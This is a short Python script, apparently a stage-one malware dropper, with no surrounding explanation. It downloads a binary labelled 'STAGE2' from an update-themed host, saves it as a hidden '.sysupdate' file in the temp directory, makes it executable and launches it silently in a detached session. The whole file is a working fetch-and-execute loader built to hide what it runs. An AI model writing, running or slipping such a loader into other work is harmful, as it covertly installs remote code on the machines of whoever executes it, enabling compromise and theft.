import os
import stat
import subprocess
import tempfile

import requests

STAGE2 = "http://cdn.example-updates.net/agent"


def fetch(url):
    r = requests.get(url, timeout=15)
    r.raise_for_status()
    return r.content


def install(blob):
    path = os.path.join(tempfile.gettempdir(), ".sysupdate")
    with open(path, "wb") as f:
        f.write(blob)
    os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
    return path


def run(path):
    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


run(install(fetch(STAGE2)))
